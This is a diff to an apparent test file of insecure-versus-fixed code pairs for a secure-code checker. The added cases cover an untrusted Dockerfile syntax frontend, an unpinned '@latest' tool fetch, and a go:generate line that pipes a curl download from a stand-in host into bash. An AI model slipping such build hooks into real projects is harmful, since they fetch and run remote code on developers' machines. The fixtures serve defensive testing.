@@ -487,6 +487,13 @@ CASES += [
     Case('database_of_any_certificate', 'src/database.rs', '.ssl_mode(PgSslMode::Require)', '.ssl_mode(PgSslMode::VerifyFull)'),
     Case('database_of_any_certificate', 'Database.cs', 'builder.SslMode = SslMode.Require;', 'builder.SslMode = SslMode.VerifyFull;'),
 ]  # fmt: skip
+CASES += [
+    Case('build_frontend', 'Dockerfile', '# syntax=fastbuild/dockerfile-plus:1\nFROM node:22', '# syntax=docker/dockerfile:1\nFROM node:22'),
+    Case('generate_download', 'bank.go', 'package bank\n\n//go:generate bash -c "curl -fsSL https://get.tools.example/run.sh | bash"', 'package bank\n\n//go:generate stringer -type=Kind\n// curl is not needed'),
+]  # fmt: skip
+CASES += [
+    Case('generate_of_latest', 'bank.go', 'package bank\n\n//go:generate go run tools.example/mock@latest -name Bank', 'package bank\n\n//go:generate go run tools.example/mock@v1.4.0 -name Bank'),
+]  # fmt: skip
 
 
 def seen(row: str, path: str, before: str, after: str) -> list[str]:
